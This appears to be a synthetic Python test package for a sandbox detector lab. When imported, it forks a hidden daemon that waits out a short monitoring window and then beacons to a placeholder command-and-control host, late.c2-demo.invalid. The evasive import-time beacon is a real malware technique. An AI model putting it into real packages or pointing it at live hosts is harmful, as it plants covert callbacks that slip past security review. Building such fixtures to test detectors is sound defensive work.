# SYNTHETIC test package written for slopspotter-lab: a harmless imitation, run only inside the sandbox.
# At import: double-forks a daemon that sleeps 12 s (longer than a short post-phase watch would
# wait) and only then beacons to a .invalid host (answered by the sandbox's sinkhole).
import os
import socket
import time


def _beacon():
    time.sleep(12)
    try:
        s = socket.create_connection((socket.gethostbyname("late.c2-demo.invalid"), 443), timeout=2)
        s.sendall(b"GET /later HTTP/1.1\r\nHost: late.c2-demo.invalid\r\n\r\n")
        s.close()
    except OSError:
        pass
    time.sleep(120)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        _beacon()
    os._exit(0)
else:
    os.wait()
